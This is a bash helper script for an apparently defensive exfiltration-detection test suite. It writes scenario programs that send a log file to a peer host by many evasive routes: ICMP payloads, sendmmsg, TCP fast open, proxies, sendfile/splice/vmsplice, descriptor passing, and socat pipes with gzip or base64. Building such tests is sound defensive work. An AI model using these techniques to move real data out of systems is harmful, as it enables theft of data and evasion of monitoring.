#!/bin/bash
# The exfiltration scenarios and their benign twins, shared by the
# detection suites (evasion.sh, relays.sh), which check the alerts, and by
# enforce.sh, which checks that the same programs deliver 0 bytes of the
# log under --enforce. Sourced after lib.sh; defines no tests itself.

# sc_write_scripts DIR: the scenario programs, into DIR
sc_write_scripts() {
	local dir=$1
	cat >"$dir/icmp.py" <<'EOF'
# a file's bytes as the payload of ICMP echo requests from a raw socket
import socket, struct, sys
path, family, ip = sys.argv[1], sys.argv[2], sys.argv[3]
data = open(path, "rb").read()
if family == "6":
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    kind = 128  # echo request; the kernel fills in the checksum
else:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    kind = 8

def checksum(b):
    if len(b) % 2:
        b += b"\0"
    total = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF

for seq, off in enumerate(range(0, len(data), 1024)):
    chunk = data[off:off + 1024]
    head = struct.pack("!BBHHH", kind, 0, 0, 0x4657, seq)
    if family != "6":
        head = struct.pack("!BBHHH", kind, 0, checksum(head + chunk),
                           0x4657, seq)
    s.sendto(head + chunk, (ip, 0))
EOF
	cat >"$dir/mmsg.py" <<'EOF'
# one sendmmsg(2) call on an unconnected UDP socket: the file's halves to
# two hosts (each message names its own destination)
import ctypes, os, socket, struct, sys
path, ip1, ip2, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
data = open(path, "rb").read()
chunks = [data[i:i + 1024] for i in range(0, len(data), 1024)][:16]
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32),
                ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]
class mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
def sockaddr(ip):
    raw = struct.pack("!HH4s8x", socket.AF_INET, port, socket.inet_aton(ip))
    raw = struct.pack("=H", socket.AF_INET) + raw[2:]
    return ctypes.create_string_buffer(raw, len(raw))
names = [sockaddr(ip1), sockaddr(ip2)]
bufs = [ctypes.create_string_buffer(c, len(c)) for c in chunks]
iovs = [iovec(ctypes.addressof(b), len(c)) for b, c in zip(bufs, chunks)]
vec = (mmsghdr * len(chunks))()
for i, iov in enumerate(iovs):
    name = names[i % 2]
    vec[i].hdr = msghdr(ctypes.addressof(name), 16, ctypes.pointer(iov), 1,
                        None, 0, 0)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
libc = ctypes.CDLL(None, use_errno=True)
n = libc.sendmmsg(s.fileno(), vec, len(chunks), 0)
if n != len(chunks):
    sys.exit("sendmmsg: %d: %s" % (n, os.strerror(ctypes.get_errno())))
EOF
	cat >"$dir/tfo.py" <<'EOF'
# the first bytes in the SYN (TCP fast open), the rest on the connection
import socket, sys
path, ip, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
data = open(path, "rb").read()
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
# blocking: with a timeout Python's socket is non-blocking underneath and
# the fast-open connect returns EINPROGRESS
n = s.sendto(data[:1000], socket.MSG_FASTOPEN, (ip, port))
s.settimeout(20)
s.sendall(data[n:])
s.shutdown(socket.SHUT_WR)
s.close()
EOF
	cat >"$dir/tcp_proxy.py" <<'EOF'
# A forking loopback TCP proxy: connection i is read to the end by a new
# child, which closes it (receiving side first), then sends what it got to
# the peer's i-th port. The listener itself never reads data.
import fwnet, os, socket, sys
lport, ready, ip = int(sys.argv[1]), sys.argv[2], sys.argv[3]
ports = [int(p) for p in sys.argv[4:]]
srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", lport))
srv.listen(4)
open(ready, "w").close()
srv.settimeout(30)
for port in ports:
    c, _ = srv.accept()
    pid = os.fork()
    if pid == 0:
        srv.close()
        data = fwnet.recv_all(c)
        c.close()
        fwnet.upload(data, ip, port)
        os._exit(0)
    c.close()
    _, status = os.waitpid(pid, 0)
    if status:
        sys.exit("child for port %d failed" % port)
EOF
	cat >"$dir/tcp_client.py" <<'EOF'
# Send a file from 127.0.0.1:CPORT to the proxy; wait for the proxy to close
# first, then reset, so the 4-tuple is free again at once (no TIME_WAIT)
import socket, struct, sys, time
path, cport, lport = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
data = open(path, "rb").read()
for attempt in range(100):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind(("127.0.0.1", cport))
        s.connect(("127.0.0.1", lport))
        break
    except OSError:
        s.close()
        time.sleep(0.05)
else:
    sys.exit("cannot connect from port %d" % cport)
s.settimeout(20)
s.sendall(data)
s.shutdown(socket.SHUT_WR)
while s.recv(65536):
    pass
s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
s.close()
EOF
	cat >"$dir/udp_proxy.py" <<'EOF'
# A local UDP proxy: datagrams until one that says END, then all of
# them to the peer over TCP. Bound to 127.0.0.1, or to BIND ("" for the
# wildcard address)
import fwnet, socket, sys
lport, ready, ip, port = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
bind = sys.argv[5] if len(sys.argv) > 5 else "127.0.0.1"
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind((bind, lport))
open(ready, "w").close()
data = fwnet.recv_until_end(u)
fwnet.upload(data, ip, port)
EOF
	cat >"$dir/udp_client.py" <<'EOF'
# A file as 1 KiB datagrams to the proxy (at 127.0.0.1, or HOST), then END
import socket, sys, time
path, lport = sys.argv[1], int(sys.argv[2])
host = sys.argv[3] if len(sys.argv) > 3 else "127.0.0.1"
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
with open(path, "rb") as f:
    while True:
        d = f.read(1024)
        if not d:
            break
        u.sendto(d, (host, lport))
        time.sleep(0.0005)
u.sendto(b"END", (host, lport))
EOF
}

# sc_start NAME READYFILE PROGRAM ARGS...: a background proxy in the ground
# station, waited for until it created READYFILE
sc_start() {
	local name=$1 ready=$2
	shift 2
	fw_gs_bg "$@" >"$FW_TMP/sc-$name.err" 2>&1
	FW_PIDS[$name]=$FW_BG
	FW_BG_PIDS+=("$FW_BG")
	fw_wait_file "$ready" 10 ||
		fail "$name: proxy listening" "$ready" "none after 10 s"
}

# sc_socat_proxy NAME ADDR LPORT PORT FILE: socat listening on ADDR:LPORT
# in the ground station forwards one connection to the peer's PORT; a socat
# client (NAME-client, its exit status checked) sends it FILE. The proxy
# (FW_PIDS[NAME-proxy]) is left running: the caller waits for it.
sc_socat_proxy() {
	local name=$1 addr=$2 lport=$3 port=$4 file=$5 i
	fw_gs_bg socat -u "TCP4-LISTEN:$lport,bind=$addr,reuseaddr" \
		"TCP4:$FW_PEER_IP4:$port" >"$FW_TMP/sc-$name-proxy.err" 2>&1
	FW_PIDS[$name-proxy]=$FW_BG
	FW_BG_PIDS+=("$FW_BG")
	for ((i = 0; i < 200; i++)); do
		[ -n "$(ss -N "$FW_GS" -H -lnt "sport = :$lport" 2>/dev/null)" ] &&
			break
		sleep 0.05
	done
	fw_sc "$name-client" socat -u "FILE:$file" "TCP4:$addr:$lport"
}

# sc_run NAME PROGRAM ARGS...: fw_sc without the exit-status check (under
# enforcement a refused scenario fails by design); FW_RC its status
sc_run() {
	local name=$1
	shift
	fw_gs_bg "$@" >"$FW_TMP/sc-$name.err" 2>&1
	FW_PIDS[$name]=$FW_BG
	fw_wait_pid "$FW_BG" 30
}

# sc_egress_sends FN LOG TCP4 UDP4 TCP6 UDP6: FN NAME FWSEND-ARGS... for
# each way egress.sh sends LOG to the peer (after its timed tcp4 case):
# UDP, IPv6 and v4-mapped; every read variant; every send variant; and a
# child of the reader that sends (last, named fork). FN runs fwsend with
# the arguments and checks what its suite expects.
sc_egress_sends() {
	local fn=$1 log=$2 tcp4=$3 udp4=$4 tcp6=$5 udp6=$6 mode
	"$fn" udp4-sendto --read read "$log" --proto udp --send sendto \
		--to "$FW_PEER_IP4" --port "$udp4"
	"$fn" udp4-connected --read read "$log" --proto udp --connect --send send \
		--to "$FW_PEER_IP4" --port "$udp4"
	"$fn" tcp6 --read read "$log" --send write --to "$FW_PEER_IP6" --port "$tcp6"
	"$fn" udp6-sendto --read read "$log" --proto udp --send sendto \
		--to "$FW_PEER_IP6" --port "$udp6"
	"$fn" tcp-v4mapped --read read "$log" --send write \
		--to "::ffff:$FW_PEER_IP4" --port "$tcp4"
	"$fn" udp-v4mapped --read read "$log" --proto udp --send sendto \
		--to "::ffff:$FW_PEER_IP4" --port "$udp4"
	# every read variant (sent with write over TCP)
	for mode in pread readv preadv preadv2; do
		"$fn" "read-$mode" --read "$mode" "$log" --chunk 3000 --send write \
			--to "$FW_PEER_IP4" --port "$tcp4"
	done
	# every send variant
	for mode in writev send sendto sendmsg sendmmsg; do
		"$fn" "tcp-$mode" --read read "$log" --send "$mode" \
			--to "$FW_PEER_IP4" --port "$tcp4"
	done
	for mode in sendmsg sendmmsg; do
		"$fn" "udp-$mode" --read read "$log" --proto udp --send "$mode" \
			--to "$FW_PEER_IP4" --port "$udp4"
	done
	for mode in write writev sendmmsg; do
		"$fn" "udp-connected-$mode" --read read "$log" --proto udp --connect \
			--send "$mode" --to "$FW_PEER_IP4" --port "$udp4"
	done
	# taint inherited across fork: the parent reads, the child sends
	"$fn" fork --read read "$log" --fork --send write \
		--to "$FW_PEER_IP4" --port "$tcp4"
}

# sc_write_dataflow_scripts DIR: dataflow.sh's python programs, into DIR
sc_write_dataflow_scripts() {
	local dir=$1
	cat >"$dir/sendfile.py" <<'EOF'
# sendfile a file to the peer; this process never read()s it
import os, socket, sys
path, ip, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
fd = os.open(path, os.O_RDONLY)
size = os.fstat(fd).st_size
s = socket.create_connection((ip, port), timeout=20)
s.settimeout(None)  # blocking: sendfile into a non-blocking socket fails
off = 0
while off < size:
    n = os.sendfile(s.fileno(), fd, off, size - off)
    if n == 0:
        break
    off += n
s.shutdown(socket.SHUT_WR)
s.close()
EOF
	cat >"$dir/splice.py" <<'EOF'
# splice the file into a pipe, then from the pipe into a TCP socket
import os, socket, sys
path, ip, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
fd = os.open(path, os.O_RDONLY)
size = os.fstat(fd).st_size
r, w = os.pipe()
s = socket.create_connection((ip, port), timeout=20)
# blocking from here: with a timeout the socket is non-blocking underneath,
# and splice into it fails with EAGAIN once the peer is slow to drain
s.settimeout(None)
off = 0
while off < size:
    n = os.splice(fd, w, min(16384, size - off), offset_src=off)
    if n == 0:
        break
    off += n
    m = 0
    while m < n:
        m += os.splice(r, s.fileno(), n - m)
s.shutdown(socket.SHUT_WR)
s.close()
EOF
	cat >"$dir/pwrite.py" <<'EOF'
# copy a file into another written in place, last block first, with
# pwrite: the way a database or an index file is written
import os, sys
src, dst = sys.argv[1], sys.argv[2]
data = open(src, "rb").read()
fd = os.open(dst, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
block = 8192
for off in reversed(range(0, len(data), block)):
    os.pwrite(fd, data[off:off + block], off)
os.close(fd)
EOF
	cat >"$dir/vmsplice.py" <<'EOF'
# read a file into memory and hand that memory to the pipe on stdout with
# vmsplice(2), never write(2)
import ctypes, os, sys
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
data = open(sys.argv[1], "rb").read()
buf = ctypes.create_string_buffer(data, len(data))
off = 0
while off < len(data):
    iov = iovec(ctypes.addressof(buf) + off, min(16384, len(data) - off))
    n = libc.vmsplice(1, ctypes.byref(iov), 1, 0)
    if n < 0:
        sys.exit("vmsplice: " + os.strerror(ctypes.get_errno()))
    off += n
EOF
	cat >"$dir/scm_recv.py" <<'EOF'
# receive a descriptor over a unix socket (SCM_RIGHTS), read it, send it
import fwnet, os, socket, sys
path, ready, ip, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(path)
srv.listen(1)
open(ready, "w").close()
srv.settimeout(20)
c, _ = srv.accept()
c.settimeout(20)
msg, fds, flags, addr = socket.recv_fds(c, 16, 1)
if not fds:
    sys.exit("no descriptor received")
data = bytearray()
while True:
    d = os.read(fds[0], 65536)
    if not d:
        break
    data += d
fwnet.upload(data, ip, port)
EOF
	cat >"$dir/scm_send.py" <<'EOF'
# open a file (never read it) and pass the descriptor over a unix socket
import os, socket, sys, time
path, sock = sys.argv[1], sys.argv[2]
fd = os.open(path, os.O_RDONLY)
c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
for _ in range(200):
    try:
        c.connect(sock)
        break
    except OSError:
        time.sleep(0.05)
socket.send_fds(c, [b"x"], [fd])
c.close()
EOF
}

# dataflow.sh's shell scenarios, for bash -c SCRIPT NAME ARGS...
# a pipe: LOG IP PORT
SC_PIPE='cat -- "$1" | socat -u - "TCP4:$2:$3"'
# a derived file: LOG GZ IP PORT
SC_GZIP='gzip -c -- "$1" >"$2" && exec socat -u "FILE:$2" "TCP4:$3:$4"'
# pipe, gzip, base64, temporary file, pipe: LOG B64 IP PORT
SC_MULTI='cat -- "$1" | gzip | base64 >"$2" && cat -- "$2" | socat -u - "TCP4:$3:$4"'
# the pipe's benign twin, untainted data: IP PORT
SC_B_PIPE='head -c 70000 /dev/urandom | socat -u - "TCP4:$1:$2"'
# FWURING FILE IP PORT: FILE into a pipe by io_uring splice requests only
SC_URING_SPLICE='"$1" splice "$2" | socat -u - "TCP4:$3:$4"'
# FWMQ FILE IP PORT: FILE through a POSIX message queue to an uploader
SC_MQUEUE='"$1" recv "/fwmq-$$" "$3" "$4" & "$1" send "/fwmq-$$" "$2"; wait $!'
